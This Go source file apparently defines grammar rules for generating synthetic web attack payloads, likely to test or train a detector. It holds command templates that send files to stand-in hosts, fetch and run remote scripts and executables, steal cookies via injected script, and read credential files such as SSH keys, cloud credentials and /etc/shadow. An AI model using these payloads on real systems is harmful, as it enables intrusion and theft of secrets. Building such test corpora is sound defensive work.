package east

import "slices"

// attackFamilies are all families of attacks, in a fixed order.
func attackFamilies() []family {
	return slices.Concat(
		sqlBoolean(), sqlUnion(), sqlBlind(), sqlOther(), noSQL(), scripting(), scriptingMore(),
		shells(), shellsMore(), traversals(), forgeries(), templates(), expressions(), directories(),
		entities(), lines(), objects(), graphs(), bombs(), oddities(), scanners(), tokens(), credentials(),
	)
}

// Places that attack families ride in.
const (
	anywhere = "query form json path header cookie graphql multipart xml"
	fields   = "query form json graphql multipart xml"
	strict   = "query form json cookie header graphql multipart"
	queries  = "query form"
)

// weapons are the rules that attacks alone use.
func weapons() map[string]string {
	return map[string]string{
		"oob":   "‹w12›.oast.fun|‹w16›.burpcollaborator.net|‹w6›.attacker.example|‹w20›.interact.sh|x.‹w8›.dnslog.cn|‹w5›.evil.test",
		"c2":    "‹ip›|‹ip›:‹1024..9999›|‹oob›|‹ip›:8000",
		"table": "users|usuarios|members|admin|tbl_user|accounts|kullanicilar|wp_users|hastalar|sys_login",
		"col":   "password|passwd|pwd|senha|email|login|api_key|card_no|sifre|token",
		"cmt":   "-- -|--|-- ‹w4›|#|/*|;--|--+",
		"q":     "'|\"|')|'))|\")",
		"truth": "‹twin:‹2..99›~=›|1=1|'‹twin:‹w2›~'='›'|1|true|‹10..99›>‹1..9›|'a'='a'|2 LIKE 2|1 IN (1,2)|NOT false|1<>2|3 BETWEEN 1 AND 9|5 IS NOT NULL",
		"sec":   "‹4..15›",
		"cmd": "id|whoami|uname -a|cat /etc/passwd|ls -la /|curl http://‹oob›|wget -q http://‹oob›/‹w3›.sh|nslookup ‹oob›|ping -c ‹2..9› ‹oob›|sleep ‹sec›|" +
			"curl -d @/etc/hosts http://‹c2›/|env|cat /proc/self/environ|head -1 /etc/shadow|dig ‹oob›",
		"wincmd": "dir C:\\|type C:\\Windows\\win.ini|net user|ipconfig /all|ping -n ‹2..9› ‹oob›|systeminfo|certutil -urlcache -split -f http://‹c2›/‹w4›.exe|nslookup ‹oob›",
		"shot":   "alert(1)|alert(document.domain)|confirm(‹1..999›)|prompt`‹1..9›`|fetch('//‹oob›/?'+document.cookie)|print()|console.log(‹#4›)|import('//‹oob›/x.js')|alert`1`|top['al'+'ert'](1)|self[/*x*/'alert'](document.cookie)",
		"unixfile": "etc/passwd|etc/shadow|proc/self/environ|etc/hosts|var/log/apache2/access.log|root/.ssh/id_rsa|home/‹l4›/.aws/credentials|" +
			"proc/1/cmdline|etc/nginx/nginx.conf|var/run/secrets/kubernetes.io/serviceaccount/token",
		"winfile": "windows/win.ini|boot.ini|windows/system32/drivers/etc/hosts|inetpub/wwwroot/web.config|windows/repair/sam",
		"sum":     "‹2..9›*‹2..9›|‹100..999›*‹100..999›|‹10..99›-‹1..9›",
	}
}
